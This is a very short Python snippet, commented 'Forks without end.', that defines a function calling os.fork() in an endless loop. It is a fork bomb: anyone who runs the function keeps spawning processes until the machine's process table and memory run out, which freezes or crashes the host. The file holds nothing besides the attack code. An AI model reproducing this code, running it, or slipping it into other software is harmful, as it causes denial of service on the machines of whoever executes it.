# Forks without end.
import os
def f(n):
    while True:
        os.fork()
